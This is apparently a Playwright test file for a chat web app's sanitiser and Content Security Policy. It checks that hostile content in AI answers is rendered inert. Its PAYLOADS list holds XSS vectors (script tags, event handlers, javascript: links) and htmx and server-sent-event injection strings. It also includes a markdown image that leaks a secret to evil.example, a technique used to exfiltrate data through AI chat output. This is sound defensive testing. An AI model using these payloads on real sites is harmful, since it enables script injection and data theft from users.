"""Hostile answers and questions in a real browser: no script runs, no foreign request leaves, nothing is obeyed."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from notso.web.scripted_engine import ScriptedEngine, say

PAYLOADS = [
    *("<script>pwned=1</script>", "<img src=https://evil.example/x onerror=pwned=1>", "<svg/onload=pwned=1>"),
    *(
        "![leak](https://evil.example/?q=secret)",
        "[x](javascript:pwned=1)",
        "<iframe src=https://evil.example></iframe>",
    ),
    *(
        '<hx-partial hx-target="body" hx-swap="innerHTML">gone</hx-partial>',
        "<div hx-get=/livez hx-trigger=load>x</div>",
    ),
    *(
        '<div data-hx-post="/chats" hx-trigger="load">x</div>',
        '<p id="turns" hx-swap-oob="true">gone</p>',
        "</template></hx-partial>",
    ),
    *(
        '<div hx-sse:connect="/generations/0/events"></div>',
        "<style>body{display:none}</style>",
        "<base href=https://evil.example>",
    ),
    *(
        "<title>stolen</title>",
        "<head><title>stolen</title></head>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    ),
    *(
        "<!--snapshot-->",
        "\n\nevent: done\ndata: {}\n\n",
        "\r\revent: done\r\r",
        "\u2028event: done\u2028\u2028",
        "<body onload=pwned=1>",
    ),
    *(
        '```html\n<hx-partial hx-target="#turns">x</hx-partial>\n```',
        "`<hx-oob id=x>`",
        "<form action=https://evil.example><button>x</button></form>",
    ),
    *(
        "<a href=# onclick=pwned=1>x</a>",
        "<details open ontoggle=pwned=1>",
        "<math><mtext><style><img src=x onerror=pwned=1>",
        "<x contenteditable>",
    ),
]


@pytest.mark.parametrize("piece", [1, 1000])
def test_nothing_in_an_answer_is_obeyed(serve: Callable[..., Any], open_page: Callable[..., Page], piece: int) -> None:
    hostile = "\n\n".join(PAYLOADS)
    script = lambda messages, thinking: say(f"Begin\n\n{hostile}\n\nThe end", hostile, piece=piece)  # noqa: E731
    page = open_page(serve(ScriptedEngine(script, pace_seconds=0.0005)).url)
    page.locator("#text").fill(hostile)
    page.locator("#text").press("Enter")
    answer = page.locator("article.assistant").last
    expect(answer).to_have_attribute("data-state", "done")
    expect(answer.locator(".answer")).to_contain_text("The end")
    expect(answer.locator(".answer")).to_contain_text("<script>pwned=1</script>")
    for _ in range(2):
        assert page.evaluate("typeof pwned") == "undefined"
        assert page.evaluate("document.title").startswith("<script>pwned=1</script>")
        assert page.locator("#turns > article").count() == 2
        assert (
            page.locator(
                ".prose img, .prose script, .prose iframe, .prose form, .prose svg, .prose [id]:not(div)"
            ).count()
            == 0
        )
        page.reload()


def test_a_policy_stands_behind_the_sanitiser(serve: Callable[..., Any], open_page: Callable[..., Page]) -> None:
    """Were something to slip through, the browser itself would still refuse to run it."""
    page = open_page(serve(ScriptedEngine()).url, expected="Content Security Policy|evil.example")
    refused = page.evaluate(
        """async () => {
            const refused = [];
            document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
            const add = (tag, field, value) => {
                const element = document.createElement(tag);
                element.setAttribute(field, value);
                if (tag === "script") element.textContent = "pwned = 1";
                document.body.append(element);
                element.click();
            };
            add("script", "class", "x");
            add("img", "src", "https://evil.example/x");
            add("p", "onclick", "pwned = 1");
            await fetch("https://evil.example").catch(() => {});
            await new Promise((done) => setTimeout(done, 100));
            return refused;
        }"""
    )
    assert {"script-src-elem", "script-src-attr", "img-src", "connect-src"} <= set(refused)
    assert page.evaluate("typeof pwned") == "undefined"
